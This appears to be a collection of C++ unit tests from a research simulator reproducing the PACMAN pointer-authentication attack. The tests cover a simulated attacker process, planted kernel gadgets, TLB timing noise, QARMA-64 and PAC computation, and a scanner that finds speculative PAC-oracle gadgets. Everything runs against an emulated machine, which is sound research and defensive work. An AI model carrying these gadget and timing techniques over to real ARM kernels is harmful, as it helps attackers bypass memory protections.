    machine.mem().writeVirt64(KernelDataBase + WinFlagOff, WinMagic);
    EXPECT_TRUE(machine.kernel().winTriggered());
    machine.kernel().clearWin();
    EXPECT_FALSE(machine.kernel().winTriggered());
}

TEST_F(KernelTest, BraaGadgetRunsWithLegitPointer)
{
    proc.syscall(SYS_SET_MODIFIER, 0);
    proc.syscall(SYS_SET_COND, 1);
    const uint64_t legit = proc.syscall(SYS_GET_LEGIT_INST);
    proc.syscall(SYS_GADGET_BRAA, legit);
    EXPECT_EQ(machine.core().el(), 0u);
}

TEST_F(KernelTest, BraaGadgetPanicsOnWrongPacWhenArmed)
{
    proc.syscall(SYS_SET_MODIFIER, 0);
    proc.syscall(SYS_SET_COND, 1);
    const uint64_t bogus =
        isa::withExt(machine.kernel().benignFn(), 0x2222);
    machine.core().setReg(isa::X16, SYS_GADGET_BRAA);
    const auto status = machine.runGuest(UserCodeBase, {bogus});
    EXPECT_EQ(status.kind, cpu::ExitKind::KernelPanic);
}

TEST_F(KernelTest, BraaGadgetSafeWhenDisarmed)
{
    proc.syscall(SYS_SET_COND, 0);
    proc.syscall(SYS_GADGET_BRAA, 0xDEADBEEFDEADBEEFull);
    EXPECT_EQ(machine.core().el(), 0u);
}

TEST_F(KernelTest, GadgetScannerFindsThePlantedGadgets)
{
    // Our own kernel image must contain the gadgets Section 8 uses.
    analysis::GadgetScanner scanner(32);
    const auto report = scanner.scan(machine.kernel().image());
    EXPECT_GT(report.dataCount(), 0u);
    EXPECT_GT(report.instCount(), 0u);
}

} // namespace
} // namespace pacman::kernel
