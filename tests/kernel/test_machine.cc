#include <gtest/gtest.h>

#include "attack/runtime.hh"
#include "kernel/layout.hh"
#include "kernel/machine.hh"

namespace pacman::kernel
{
namespace
{

TEST(Machine, BootsAndRunsTrivialGuest)
{
    Machine machine;
    attack::AttackerProcess proc(machine);
    EXPECT_GT(proc.readCntpct() + 1, 0u);
}

TEST(Machine, DeterministicAcrossSameSeed)
{
    MachineConfig cfg = defaultMachineConfig();
    cfg.seed = 77;
    Machine m1(cfg), m2(cfg);
    EXPECT_EQ(m1.kernel().key(crypto::PacKeySelect::IA),
              m2.kernel().key(crypto::PacKeySelect::IA));
    attack::AttackerProcess p1(m1), p2(m2);
    EXPECT_EQ(p1.syscall(SYS_GET_LEGIT_DATA),
              p2.syscall(SYS_GET_LEGIT_DATA));
}

TEST(Machine, TimerDeviceReadableFromEl0)
{
    Machine machine;
    attack::AttackerProcess proc(machine);
    const uint64_t t1 = proc.timedLoad(proc.scratchPage(9));
    EXPECT_GT(t1, 0u);
}

TEST(Machine, TimerPageDoesNotOccupyTlb)
{
    Machine machine;
    attack::AttackerProcess proc(machine);
    proc.timedLoad(proc.scratchPage(9));
    const uint64_t timer_vpn =
        isa::pageNumber(isa::vaPart(TimerPage));
    EXPECT_FALSE(machine.mem().dtlb().contains(timer_vpn,
                                               mem::Asid::User));
}

TEST(Machine, CallReturnsX0)
{
    Machine machine;
    attack::AttackerProcess proc(machine);
    // SYS_GET_LEGIT_DATA returns a signed pointer in x0.
    const uint64_t v = proc.syscall(SYS_GET_LEGIT_DATA);
    EXPECT_EQ(isa::stripPac(v), machine.kernel().benignData());
}

TEST(Machine, NoiseDisabledByDefault)
{
    Machine machine;
    const uint64_t misses = machine.mem().dtlb().misses();
    for (int i = 0; i < 100; ++i)
        machine.injectNoise();
    EXPECT_EQ(machine.mem().dtlb().misses(), misses);
}

TEST(Machine, NoisePerturbsTlbWhenEnabled)
{
    MachineConfig cfg = defaultMachineConfig();
    cfg.noiseProbability = 1.0;
    cfg.noisePages = 8;
    Machine machine(cfg);
    const uint64_t accesses = machine.mem().dtlb().misses() +
                              machine.mem().dtlb().hits();
    for (int i = 0; i < 10; ++i)
        machine.injectNoise();
    EXPECT_GT(machine.mem().dtlb().misses() + machine.mem().dtlb().hits(),
              accesses);
}

TEST(Machine, RunGuestReportsCrashes)
{
    Machine machine;
    attack::AttackerProcess proc(machine);
    // Jump to an unmapped user address.
    const auto status = machine.runGuest(0x0000'7ABC'0000ull, {});
    EXPECT_EQ(status.kind, cpu::ExitKind::CrashEl0);
}

TEST(Machine, StatsReportReflectsActivity)
{
    Machine machine;
    attack::AttackerProcess proc(machine);
    for (int i = 0; i < 5; ++i)
        proc.syscall(SYS_NOP);
    const std::string report = machine.statsReport();
    EXPECT_NE(report.find("instructions retired"), std::string::npos);
    EXPECT_NE(report.find("syscalls"), std::string::npos);
    EXPECT_NE(report.find("dTLB"), std::string::npos);
    // 5 syscalls recorded.
    EXPECT_NE(report.find("5"), std::string::npos);
}

TEST(Machine, GuestStatePersistsAcrossCalls)
{
    Machine machine;
    attack::AttackerProcess proc(machine);
    machine.mem().writeVirt64(proc.scratchPage(3), 0x77);
    proc.timedLoad(proc.scratchPage(3));
    // The scratch page's translation is now cached.
    EXPECT_TRUE(machine.mem().dtlb().contains(
        isa::pageNumber(isa::vaPart(proc.scratchPage(3))),
        mem::Asid::User));
}

} // namespace
} // namespace pacman::kernel
