#include <gtest/gtest.h>

#include "attack/runtime.hh"
#include "kernel/layout.hh"
#include "kernel/machine.hh"

namespace pacman::kernel
{
namespace
{

TEST(Machine, BootsAndRunsTrivialGuest)
{
    Machine machine;
    attack::AttackerProcess proc(machine);
    EXPECT_GT(proc.readCntpct() + 1, 0u);
}

TEST(Machine, DeterministicAcrossSameSeed)
{
    MachineConfig cfg = defaultMachineConfig();
    cfg.seed = 77;
    Machine m1(cfg), m2(cfg);
    EXPECT_EQ(m1.kernel().key(crypto::PacKeySelect::IA),
              m2.kernel().key(crypto::PacKeySelect::IA));
    attack::AttackerProcess p1(m1), p2(m2);
    EXPECT_EQ(p1.syscall(SYS_GET_LEGIT_DATA),
              p2.syscall(SYS_GET_LEGIT_DATA));
}

TEST(Machine, TimerDeviceReadableFromEl0)
{
    Machine machine;
    attack::AttackerProcess proc(machine);
    const uint64_t t1 = proc.timedLoad(proc.scratchPage(9));
    EXPECT_GT(t1, 0u);
}

TEST(Machine, TimerPageDoesNotOccupyTlb)
{
    Machine machine;
    attack::AttackerProcess proc(machine);
    proc.timedLoad(proc.scratchPage(9));
    const uint64_t timer_vpn =
        isa::pageNumber(isa::vaPart(TimerPage));
    EXPECT_FALSE(machine.mem().dtlb().contains(timer_vpn,
                                               mem::Asid::User));
}

TEST(Machine, CallReturnsX0)
{
    Machine machine;
    attack::AttackerProcess proc(machine);
    // SYS_GET_LEGIT_DATA returns a signed pointer in x0.
    const uint64_t v = proc.syscall(SYS_GET_LEGIT_DATA);
    EXPECT_EQ(isa::stripPac(v), machine.kernel().benignData());
}

TEST(Machine, NoiseDisabledByDefault)
{
    Machine machine;
    const uint64_t misses = machine.mem().dtlb().misses();
    for (int i = 0; i < 100; ++i)
        machine.injectNoise();
    EXPECT_EQ(machine.mem().dtlb().misses(), misses);
}

TEST(Machine, NoisePerturbsTlbWhenEnabled)
{
    MachineConfig cfg = defaultMachineConfig();
    cfg.noiseProbability = 1.0;
    cfg.noisePages = 8;
    Machine machine(cfg);
    const uint64_t accesses = machine.mem().dtlb().misses() +
                              machine.mem().dtlb().hits();
    for (int i = 0; i < 10; ++i)
        machine.injectNoise();
    EXPECT_GT(machine.mem().dtlb().misses() + machine.mem().dtlb().hits(),
              accesses);
}

TEST(Machine, NoiseTouchesExactlyConfiguredPageCount)
{
    // Regression: the old model drew noise pages *with* replacement,
    // so the touched-set size silently undershot noisePages. Every
    // noise access is one dTLB lookup (kernel-side loads share the
    // dTLB; the extra kernel fetches go to the EL1 iTLB).
    MachineConfig cfg = defaultMachineConfig();
    cfg.noiseProbability = 1.0;
    cfg.noisePages = 7;
    Machine machine(cfg);
    auto &dtlb = machine.mem().dtlb();
    for (int i = 0; i < 20; ++i) {
        const uint64_t before = dtlb.hits() + dtlb.misses();
        machine.injectNoise();
        EXPECT_EQ(dtlb.hits() + dtlb.misses() - before, 7u)
            << "call " << i;
    }
}

TEST(Machine, NoisePageCountClampedTo256)
{
    MachineConfig cfg = defaultMachineConfig();
    cfg.noiseProbability = 1.0;
    cfg.noisePages = 100000;
    Machine machine(cfg);
    auto &dtlb = machine.mem().dtlb();
    const uint64_t before = dtlb.hits() + dtlb.misses();
    machine.injectNoise();
    EXPECT_EQ(dtlb.hits() + dtlb.misses() - before, 256u);
}

TEST(Machine, KernelSideNoisePerturbsEl1Itlb)
{
    MachineConfig cfg = defaultMachineConfig();
    cfg.noiseProbability = 1.0;
    cfg.noisePages = 64;
    Machine machine(cfg);
    auto &itlb1 = machine.mem().itlb(1);
    const uint64_t before = itlb1.hits() + itlb1.misses();
    for (int i = 0; i < 10; ++i)
        machine.injectNoise();
    // Interrupt handlers / kext code fetch at EL1: the iTLB the
    // instruction-gadget oracle primes must see pressure too.
    EXPECT_GT(itlb1.hits() + itlb1.misses(), before);
}

TEST(Machine, NoiseDeterministicAcrossSameSeedMachines)
{
    MachineConfig cfg = defaultMachineConfig();
    cfg.seed = 1234;
    cfg.noiseProbability = 0.7;
    cfg.noisePages = 12;
    Machine a(cfg), b(cfg);
    for (int i = 0; i < 50; ++i) {
        a.injectNoise();
        b.injectNoise();
    }
    EXPECT_EQ(a.mem().dtlb().hits(), b.mem().dtlb().hits());
    EXPECT_EQ(a.mem().dtlb().misses(), b.mem().dtlb().misses());
    EXPECT_EQ(a.mem().itlb(1).misses(), b.mem().itlb(1).misses());
}

TEST(Machine, NoiseDrawsDecoupledFromMainRngStream)
{
    // Regression: noise used to draw from the machine's main RNG, so
    // enabling it shifted every subsequent jitter/replacement draw.
    // Now it forks a dedicated stream at boot/reseed: the main RNG
    // sequence must be identical whether or not noise ever fired.
    MachineConfig quiet_cfg = defaultMachineConfig();
    quiet_cfg.seed = 99;
    MachineConfig noisy_cfg = quiet_cfg;
    noisy_cfg.noiseProbability = 1.0;
    noisy_cfg.noisePages = 16;

    Machine quiet(quiet_cfg), noisy(noisy_cfg);
    for (int i = 0; i < 25; ++i)
        noisy.injectNoise();
    EXPECT_EQ(quiet.rng().next(1u << 30), noisy.rng().next(1u << 30));

    // And the same holds after a mid-run reseed (campaign path).
    quiet.reseedRng(4242);
    noisy.reseedRng(4242);
    for (int i = 0; i < 25; ++i)
        noisy.injectNoise();
    EXPECT_EQ(quiet.rng().next(1u << 30), noisy.rng().next(1u << 30));
}

TEST(Machine, MigrateCoreSwapsAndRestoresLatency)
{
    Machine machine;
    const auto pcore = machine.mem().config().lat;
    const uint64_t rate = machine.timer().ratePer1k();

    machine.migrateCore(true);
    EXPECT_TRUE(machine.onECore());
    EXPECT_GT(machine.mem().config().lat.l1Hit, pcore.l1Hit);
    EXPECT_GT(machine.mem().config().lat.dram, pcore.dram);
    EXPECT_GT(machine.timer().ratePer1k(), rate);

    machine.migrateCore(true); // idempotent
    EXPECT_TRUE(machine.onECore());

    machine.migrateCore(false);
    EXPECT_FALSE(machine.onECore());
    EXPECT_EQ(machine.mem().config().lat.l1Hit, pcore.l1Hit);
    EXPECT_EQ(machine.timer().ratePer1k(), rate);
}

TEST(Machine, RunGuestReportsCrashes)
{
    Machine machine;
    attack::AttackerProcess proc(machine);
    // Jump to an unmapped user address.
    const auto status = machine.runGuest(0x0000'7ABC'0000ull, {});
    EXPECT_EQ(status.kind, cpu::ExitKind::CrashEl0);
}

TEST(Machine, StatsReportReflectsActivity)
{
    Machine machine;
    attack::AttackerProcess proc(machine);
    for (int i = 0; i < 5; ++i)
        proc.syscall(SYS_NOP);
    const std::string report = machine.statsReport();
    EXPECT_NE(report.find("instructions retired"), std::string::npos);
    EXPECT_NE(report.find("syscalls"), std::string::npos);
    EXPECT_NE(report.find("dTLB"), std::string::npos);
    // 5 syscalls recorded.
    EXPECT_NE(report.find("5"), std::string::npos);
}

TEST(Machine, GuestStatePersistsAcrossCalls)
{
    Machine machine;
    attack::AttackerProcess proc(machine);
    machine.mem().writeVirt64(proc.scratchPage(3), 0x77);
    proc.timedLoad(proc.scratchPage(3));
    // The scratch page's translation is now cached.
    EXPECT_TRUE(machine.mem().dtlb().contains(
        isa::pageNumber(isa::vaPart(proc.scratchPage(3))),
        mem::Asid::User));
}

} // namespace
} // namespace pacman::kernel
