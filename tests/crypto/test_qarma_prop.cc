/**
 * @file
 * Parameterized property tests for QARMA-64 across round counts and
 * S-box variants: invertibility, determinism, key/tweak sensitivity,
 * and diffusion.
 */

#include <gtest/gtest.h>

#include <tuple>

#include "base/random.hh"
#include "crypto/qarma64.hh"

namespace pacman::crypto
{
namespace
{

using Variant = std::tuple<int, QarmaSbox>;

class QarmaPropTest : public ::testing::TestWithParam<Variant>
{
  protected:
    Qarma64
    make(uint64_t w0 = 0x84be85ce9804e94bull,
         uint64_t k0 = 0xec2802d4e0a488e9ull) const
    {
        const auto [rounds, sbox] = GetParam();
        return Qarma64(w0, k0, rounds, sbox);
    }
};

TEST_P(QarmaPropTest, DecryptInvertsEncryptRandomized)
{
    const Qarma64 cipher = make();
    Random rng(11);
    for (int i = 0; i < 300; ++i) {
        const uint64_t pt = rng.next();
        const uint64_t tw = rng.next();
        ASSERT_EQ(cipher.decrypt(cipher.encrypt(pt, tw), tw), pt);
    }
}

TEST_P(QarmaPropTest, TweakSeparation)
{
    const Qarma64 cipher = make();
    Random rng(13);
    for (int i = 0; i < 100; ++i) {
        const uint64_t pt = rng.next();
        const uint64_t tw = rng.next();
        ASSERT_NE(cipher.encrypt(pt, tw), cipher.encrypt(pt, tw ^ 1));
    }
}

TEST_P(QarmaPropTest, KeySeparation)
{
    Random rng(17);
    for (int i = 0; i < 50; ++i) {
        const uint64_t w0 = rng.next(), k0 = rng.next();
        const Qarma64 a = make(w0, k0);
        const Qarma64 b = make(w0 ^ (1ull << (i % 64)), k0);
        const Qarma64 c = make(w0, k0 ^ (1ull << (i % 64)));
        const uint64_t pt = rng.next(), tw = rng.next();
        ASSERT_NE(a.encrypt(pt, tw), b.encrypt(pt, tw));
        ASSERT_NE(a.encrypt(pt, tw), c.encrypt(pt, tw));
    }
}

TEST_P(QarmaPropTest, PlaintextDiffusion)
{
    // Single-bit plaintext flips change many ciphertext bits on
    // average (>= 24 of 64 over a sample).
    const Qarma64 cipher = make();
    Random rng(19);
    double total = 0;
    const int n = 100;
    for (int i = 0; i < n; ++i) {
        const uint64_t pt = rng.next();
        const uint64_t tw = rng.next();
        const uint64_t base = cipher.encrypt(pt, tw);
        const uint64_t flipped =
            cipher.encrypt(pt ^ (1ull << rng.next(64)), tw);
        total += __builtin_popcountll(base ^ flipped);
    }
    EXPECT_GT(total / n, 24.0);
    EXPECT_LT(total / n, 40.0);
}

TEST_P(QarmaPropTest, TweakDiffusion)
{
    const Qarma64 cipher = make();
    Random rng(23);
    double total = 0;
    const int n = 100;
    for (int i = 0; i < n; ++i) {
        const uint64_t pt = rng.next();
        const uint64_t tw = rng.next();
        const uint64_t base = cipher.encrypt(pt, tw);
        const uint64_t flipped =
            cipher.encrypt(pt, tw ^ (1ull << rng.next(64)));
        total += __builtin_popcountll(base ^ flipped);
    }
    EXPECT_GT(total / n, 24.0);
}

TEST_P(QarmaPropTest, NoTrivialFixedStructure)
{
    // Zero inputs do not produce zero or input-echo outputs.
    const Qarma64 cipher = make();
    const uint64_t c = cipher.encrypt(0, 0);
    EXPECT_NE(c, 0u);
    const uint64_t pt = 0x0123456789ABCDEFull;
    EXPECT_NE(cipher.encrypt(pt, 0), pt);
}

INSTANTIATE_TEST_SUITE_P(
    Variants, QarmaPropTest,
    ::testing::Combine(::testing::Values(5, 6, 7, 8),
                       ::testing::Values(QarmaSbox::Sigma0,
                                         QarmaSbox::Sigma1,
                                         QarmaSbox::Sigma2)),
    [](const ::testing::TestParamInfo<Variant> &info) {
        return "r" + std::to_string(std::get<0>(info.param)) +
               "_sigma" +
               std::to_string(int(std::get<1>(info.param)));
    });

} // namespace
} // namespace pacman::crypto
