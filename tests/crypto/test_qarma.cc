#include <gtest/gtest.h>

#include <algorithm>
#include <vector>

#include "crypto/qarma64.hh"

namespace pacman::crypto
{
namespace
{

// Published QARMA-64 test vectors (Avanzi, ToSC 2017):
// w0 = 84be85ce9804e94b, k0 = ec2802d4e0a488e9,
// P = fb623599da6e8127, T = 477d469dec0b8762.
constexpr uint64_t W0 = 0x84be85ce9804e94bull;
constexpr uint64_t K0 = 0xec2802d4e0a488e9ull;
constexpr uint64_t P = 0xfb623599da6e8127ull;
constexpr uint64_t T = 0x477d469dec0b8762ull;

struct Vector
{
    int rounds;
    QarmaSbox sbox;
    uint64_t ciphertext;
};

const Vector vectors[] = {
    {5, QarmaSbox::Sigma0, 0x3ee99a6c82af0c38ull},
    {5, QarmaSbox::Sigma1, 0x544b0ab95bda7c3aull},
    {5, QarmaSbox::Sigma2, 0xc003b93999b33765ull},
    {6, QarmaSbox::Sigma0, 0x9f5c41ec525603c9ull},
    {6, QarmaSbox::Sigma1, 0xa512dd1e4e3ec582ull},
    {7, QarmaSbox::Sigma0, 0xbcaf6c89de930765ull},
    {7, QarmaSbox::Sigma1, 0xedf67ff370a483f2ull},
};

TEST(Qarma64, PublishedTestVectors)
{
    for (const Vector &v : vectors) {
        Qarma64 cipher(W0, K0, v.rounds, v.sbox);
        EXPECT_EQ(cipher.encrypt(P, T), v.ciphertext)
            << "r=" << v.rounds << " sbox=" << int(v.sbox);
    }
}

TEST(Qarma64, DecryptInvertsEncrypt)
{
    for (const Vector &v : vectors) {
        Qarma64 cipher(W0, K0, v.rounds, v.sbox);
        EXPECT_EQ(cipher.decrypt(v.ciphertext, T), P);
    }
}

TEST(Qarma64, RoundTripRandomInputs)
{
    Qarma64 cipher(W0, K0, 7, QarmaSbox::Sigma1);
    uint64_t x = 0x0123456789abcdefull;
    for (int i = 0; i < 200; ++i) {
        x = x * 6364136223846793005ull + 1442695040888963407ull;
        const uint64_t tweak = x ^ 0x5555aaaa5555aaaaull;
        EXPECT_EQ(cipher.decrypt(cipher.encrypt(x, tweak), tweak), x);
    }
}

TEST(Qarma64, TweakChangesCiphertext)
{
    Qarma64 cipher(W0, K0, 7, QarmaSbox::Sigma1);
    EXPECT_NE(cipher.encrypt(P, T), cipher.encrypt(P, T ^ 1));
}

TEST(Qarma64, KeyChangesCiphertext)
{
    Qarma64 a(W0, K0, 7, QarmaSbox::Sigma1);
    Qarma64 b(W0, K0 ^ 1, 7, QarmaSbox::Sigma1);
    Qarma64 c(W0 ^ 1, K0, 7, QarmaSbox::Sigma1);
    EXPECT_NE(a.encrypt(P, T), b.encrypt(P, T));
    EXPECT_NE(a.encrypt(P, T), c.encrypt(P, T));
}

TEST(Qarma64, AvalancheSingleBitFlip)
{
    // A one-bit plaintext change should flip roughly half the output
    // bits; require at least 16 of 64 for every input bit position.
    Qarma64 cipher(W0, K0, 7, QarmaSbox::Sigma1);
    const uint64_t base = cipher.encrypt(P, T);
    for (unsigned bit = 0; bit < 64; ++bit) {
        const uint64_t flipped = cipher.encrypt(P ^ (1ull << bit), T);
        EXPECT_GE(__builtin_popcountll(base ^ flipped), 16)
            << "bit " << bit;
    }
}

TEST(Qarma64, EncryptIsDeterministic)
{
    Qarma64 cipher(W0, K0, 7, QarmaSbox::Sigma1);
    EXPECT_EQ(cipher.encrypt(P, T), cipher.encrypt(P, T));
}

TEST(Qarma64, RoundCountMatters)
{
    Qarma64 r5(W0, K0, 5, QarmaSbox::Sigma1);
    Qarma64 r7(W0, K0, 7, QarmaSbox::Sigma1);
    EXPECT_NE(r5.encrypt(P, T), r7.encrypt(P, T));
}

TEST(Qarma64, BijectivityOverSmallSample)
{
    // No two distinct plaintexts map to the same ciphertext.
    Qarma64 cipher(W0, K0, 5, QarmaSbox::Sigma1);
    std::vector<uint64_t> outs;
    for (uint64_t i = 0; i < 512; ++i)
        outs.push_back(cipher.encrypt(i, T));
    std::sort(outs.begin(), outs.end());
    EXPECT_EQ(std::adjacent_find(outs.begin(), outs.end()), outs.end());
}

} // namespace
} // namespace pacman::crypto
