#include <gtest/gtest.h>

#include <map>

#include "crypto/pac.hh"

namespace pacman::crypto
{
namespace
{

const PacKey key{0x0011223344556677ull, 0x8899aabbccddeeffull};

TEST(Pac, Deterministic)
{
    EXPECT_EQ(computePac(0x1000, 0, key), computePac(0x1000, 0, key));
}

TEST(Pac, DependsOnPointer)
{
    EXPECT_NE(computePac(0x1000, 0, key), computePac(0x2000, 0, key));
}

TEST(Pac, DependsOnModifier)
{
    EXPECT_NE(computePac(0x1000, 1, key), computePac(0x1000, 2, key));
}

TEST(Pac, DependsOnKey)
{
    const PacKey other{key.w0, key.k0 ^ 1};
    EXPECT_NE(computePac(0x1000, 0, key), computePac(0x1000, 0, other));
}

TEST(Pac, WidthTruncation)
{
    // An 11-bit PAC never exceeds 11 bits (the ARM range is 11..31
    // bits depending on configuration; our platform uses 16).
    for (uint64_t p = 0; p < 64; ++p)
        EXPECT_LT(computePac(p << 14, 0, key, 11), 1u << 11);
}

TEST(Pac, SixteenBitDistributionRoughlyUniform)
{
    // Bucket PACs of many pointers: each of 16 coarse buckets should
    // receive a reasonable share.
    std::map<uint16_t, unsigned> buckets;
    const unsigned n = 4096;
    for (unsigned i = 0; i < n; ++i)
        ++buckets[computePac(uint64_t(i) << 14, 0, key) >> 12];
    for (const auto &[bucket, count] : buckets)
        EXPECT_GT(count, n / 16 / 2) << "bucket " << bucket;
    EXPECT_EQ(buckets.size(), 16u);
}

TEST(Pac, KeyNames)
{
    EXPECT_STREQ(pacKeyName(PacKeySelect::IA), "IA");
    EXPECT_STREQ(pacKeyName(PacKeySelect::DB), "DB");
    EXPECT_STREQ(pacKeyName(PacKeySelect::GA), "GA");
}

TEST(Pac, CollisionRateNearExpected)
{
    // Probability two random pointers share a 16-bit PAC should be
    // about 2^-16; over ~20k pairs expect only a few collisions.
    unsigned collisions = 0;
    const unsigned n = 20000;
    const uint16_t reference = computePac(0xABC000, 7, key);
    for (unsigned i = 1; i <= n; ++i) {
        if (computePac(0xABC000 + (uint64_t(i) << 14), 7, key) ==
            reference) {
            ++collisions;
        }
    }
    EXPECT_LT(collisions, 8u); // expectation ~0.3
}

} // namespace
} // namespace pacman::crypto
