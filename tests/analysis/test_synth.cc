#include <gtest/gtest.h>

#include "analysis/scanner.hh"
#include "analysis/synth.hh"
#include "isa/encoding.hh"

namespace pacman::analysis
{
namespace
{

SynthConfig
smallConfig()
{
    SynthConfig cfg;
    cfg.numFunctions = 200;
    return cfg;
}

TEST(Synth, GeneratesDecodableCode)
{
    const auto prog = generateSyntheticKernel(smallConfig(), 0x10000);
    ASSERT_GT(prog.words.size(), 1000u);
    for (size_t i = 0; i < prog.words.size(); ++i) {
        EXPECT_TRUE(isa::decode(prog.words[i]).has_value())
            << "word " << i;
    }
}

TEST(Synth, DeterministicForSeed)
{
    const auto a = generateSyntheticKernel(smallConfig(), 0x10000);
    const auto b = generateSyntheticKernel(smallConfig(), 0x10000);
    EXPECT_EQ(a.words, b.words);
}

TEST(Synth, SeedChangesOutput)
{
    SynthConfig cfg = smallConfig();
    const auto a = generateSyntheticKernel(cfg, 0x10000);
    cfg.seed = 1234;
    const auto b = generateSyntheticKernel(cfg, 0x10000);
    EXPECT_NE(a.words, b.words);
}

TEST(Synth, FunctionsHavePaPrologues)
{
    const auto prog = generateSyntheticKernel(smallConfig(), 0x10000);
    // Count pacia and autia occurrences: at least one pair per
    // function.
    unsigned pacia = 0, autia = 0, ret = 0;
    for (const auto w : prog.words) {
        const auto inst = isa::decode(w);
        ASSERT_TRUE(inst);
        pacia += inst->op == isa::Opcode::PACIA;
        autia += inst->op == isa::Opcode::AUTIA;
        ret += inst->op == isa::Opcode::RET;
    }
    EXPECT_GE(pacia, 200u);
    EXPECT_GE(autia, 200u);
    EXPECT_GE(ret, 200u);
}

TEST(Synth, ScannerFindsManyGadgets)
{
    const auto prog = generateSyntheticKernel(smallConfig(), 0x10000);
    const auto report = GadgetScanner(32).scan(prog);
    // Section 4.3's qualitative claims on a PA-heavy binary:
    // plentiful gadgets of both kinds, instruction-heavy mix, short
    // distances.
    EXPECT_GT(report.total(), 100u);
    EXPECT_GT(report.dataCount(), 0u);
    EXPECT_GT(report.instCount(), report.dataCount());
    EXPECT_GT(report.meanDistance(), 1.0);
    EXPECT_LT(report.meanDistance(), 32.0);
}

TEST(Synth, SymbolPerFunction)
{
    const auto prog = generateSyntheticKernel(smallConfig(), 0x10000);
    EXPECT_TRUE(prog.hasSymbol("fn_0"));
    EXPECT_TRUE(prog.hasSymbol("fn_199"));
    EXPECT_FALSE(prog.hasSymbol("fn_200"));
}

} // namespace
} // namespace pacman::analysis
