#include <gtest/gtest.h>

#include <functional>

#include "analysis/scanner.hh"
#include "asm/assembler.hh"

namespace pacman::analysis
{
namespace
{

using namespace pacman::isa;
using asmjit::Assembler;

/** Assemble a snippet at a fixed base. */
asmjit::Program
assemble(const std::function<void(Assembler &)> &body)
{
    Assembler a(0x1000);
    body(a);
    return a.finalize();
}

TEST(Scanner, FindsDataGadgetDownTakenPath)
{
    const auto prog = assemble([](Assembler &a) {
        a.cbnz(X1, "body");
        a.hlt(0);
        a.label("body");
        a.autda(X0, X10);
        a.ldr(X2, X0, 0);
        a.hlt(0);
    });
    const auto report = GadgetScanner(32).scan(prog);
    ASSERT_EQ(report.total(), 1u);
    EXPECT_EQ(report.gadgets[0].type, GadgetType::Data);
    EXPECT_TRUE(report.gadgets[0].takenDirection);
    EXPECT_EQ(report.dataCount(), 1u);
    EXPECT_EQ(report.instCount(), 0u);
}

TEST(Scanner, FindsInstGadgetDownFallthrough)
{
    const auto prog = assemble([](Assembler &a) {
        a.bcond(Cond::EQ, "skip");
        a.autia(X0, X10);
        a.blr(X0);
        a.label("skip");
        a.hlt(0);
    });
    const auto report = GadgetScanner(32).scan(prog);
    ASSERT_EQ(report.total(), 1u);
    EXPECT_EQ(report.gadgets[0].type, GadgetType::Instruction);
    EXPECT_FALSE(report.gadgets[0].takenDirection);
}

TEST(Scanner, OverwrittenRegisterBreaksDependence)
{
    const auto prog = assemble([](Assembler &a) {
        a.cbnz(X1, "body");
        a.hlt(0);
        a.label("body");
        a.autda(X0, X10);
        a.movz(X0, 0); // clobbers the authenticated pointer
        a.ldr(X2, X0, 0);
        a.hlt(0);
    });
    EXPECT_EQ(GadgetScanner(32).scan(prog).total(), 0u);
}

TEST(Scanner, InterveningArithmeticAllowed)
{
    // The paper notes other instructions may sit between aut and
    // transmit without affecting the gadget.
    const auto prog = assemble([](Assembler &a) {
        a.cbnz(X1, "body");
        a.hlt(0);
        a.label("body");
        a.autda(X0, X10);
        a.addi(X3, X4, 8);
        a.eor(X5, X6, X7);
        a.ldr(X2, X0, 0);
        a.hlt(0);
    });
    const auto report = GadgetScanner(32).scan(prog);
    ASSERT_EQ(report.total(), 1u);
    // aut at 1, two fillers, transmit at distance 4 from the branch.
    EXPECT_EQ(report.gadgets[0].distance, 4u);
}

TEST(Scanner, WindowLimitRespected)
{
    const auto prog = assemble([](Assembler &a) {
        a.cbnz(X1, "body");
        a.hlt(0);
        a.label("body");
        a.autda(X0, X10);
        for (int i = 0; i < 40; ++i)
            a.nop();
        a.ldr(X2, X0, 0);
        a.hlt(0);
    });
    EXPECT_EQ(GadgetScanner(32).scan(prog).total(), 0u);
    EXPECT_EQ(GadgetScanner(64).scan(prog).total(), 1u);
}

TEST(Scanner, RetOfAuthenticatedLrIsInstGadget)
{
    // The ubiquitous epilogue pattern: autia lr, sp; ret.
    const auto prog = assemble([](Assembler &a) {
        a.cbnz(X1, "out");
        a.nop();
        a.label("out");
        a.autia(LR, SP);
        a.ret();
    });
    const auto report = GadgetScanner(32).scan(prog);
    // Found down both directions (taken and fall-through converge).
    EXPECT_GE(report.total(), 1u);
    for (const auto &g : report.gadgets)
        EXPECT_EQ(g.type, GadgetType::Instruction);
}

TEST(Scanner, StoreThroughAuthenticatedPointerCounts)
{
    const auto prog = assemble([](Assembler &a) {
        a.cbnz(X1, "body");
        a.hlt(0);
        a.label("body");
        a.autda(X0, X10);
        a.str(X2, X0, 0);
        a.hlt(0);
    });
    const auto report = GadgetScanner(32).scan(prog);
    ASSERT_EQ(report.total(), 1u);
    EXPECT_EQ(report.gadgets[0].type, GadgetType::Data);
}

TEST(Scanner, FollowsDirectBranches)
{
    const auto prog = assemble([](Assembler &a) {
        a.cbnz(X1, "body");
        a.hlt(0);
        a.label("body");
        a.autda(X0, X10);
        a.b("far");
        a.hlt(0);
        a.label("far");
        a.ldr(X2, X0, 0);
        a.hlt(0);
    });
    EXPECT_EQ(GadgetScanner(32).scan(prog).total(), 1u);
}

TEST(Scanner, NoGadgetWithoutCondBranch)
{
    const auto prog = assemble([](Assembler &a) {
        a.autda(X0, X10);
        a.ldr(X2, X0, 0);
        a.hlt(0);
    });
    EXPECT_EQ(GadgetScanner(32).scan(prog).total(), 0u);
}

TEST(Scanner, XpacIsNotAVerificationOp)
{
    const auto prog = assemble([](Assembler &a) {
        a.cbnz(X1, "body");
        a.hlt(0);
        a.label("body");
        a.xpac(X0); // strips without verifying: no oracle
        a.ldr(X2, X0, 0);
        a.hlt(0);
    });
    EXPECT_EQ(GadgetScanner(32).scan(prog).total(), 0u);
}

TEST(Scanner, CountsCondBranches)
{
    const auto prog = assemble([](Assembler &a) {
        a.cbnz(X1, "x");
        a.label("x");
        a.cbz(X2, "y");
        a.label("y");
        a.bcond(Cond::NE, "z");
        a.label("z");
        a.hlt(0);
    });
    EXPECT_EQ(GadgetScanner(32).scan(prog).condBranches, 3u);
}

TEST(Scanner, DescribeGadgetMentionsBothOps)
{
    const auto prog = assemble([](Assembler &a) {
        a.cbnz(X1, "body");
        a.hlt(0);
        a.label("body");
        a.autda(X0, X10);
        a.ldr(X2, X0, 0);
        a.hlt(0);
    });
    const auto report = GadgetScanner(32).scan(prog);
